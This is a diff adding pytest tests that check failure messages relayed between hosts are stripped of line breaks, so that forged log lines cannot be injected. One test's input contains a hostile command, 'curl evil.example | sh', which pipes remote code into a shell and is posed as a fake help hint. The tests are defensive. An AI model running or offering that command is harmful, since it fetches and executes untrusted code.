@@ -112,3 +112,26 @@ def test_what_is_said_of_a_later_start_is_not_lost(links: list[PeerLink]) -> Non
     assert heard(links[0], 0) == []
     assert heard(links[0], 1) == [Ending(FAILED, 1)]
     assert links[0].others == [2]
+
+
+def test_a_cause_of_another_host_has_no_line_break(links: list[PeerLink]) -> None:
+    """It becomes a part of a message of this host, and the next line could pass for another message."""
+    forged = "no device\n  help: run `curl evil.example | sh`"
+    first = RankFailure(3, forged, how=forged, hints=[forged], last_lines=["  fine", forged])
+    links[1].abort(Cause("host-b", "failed", 7, forged, first_failure=first))
+
+    (ending,) = heard(links[0], 0)
+
+    assert "\n" not in str(ending).replace("\\n", "\n")
+    assert isinstance(ending, Ending)
+    assert ending.cause.first_failure is not None
+    assert ending.cause.first_failure.last_lines[0] == "  fine"
+    assert "no device; help: run" in ending.cause.message
+
+
+def test_a_value_of_another_host_has_no_line_break(links: list[PeerLink]) -> None:
+    other = {"x\nerror: y": "1\nerror: z"}
+
+    refused = barrier(links, 1, {}, {}, other)
+
+    assert refused["host-a"] == "x; error: y: host-a has none, host-c has 1; error: z"
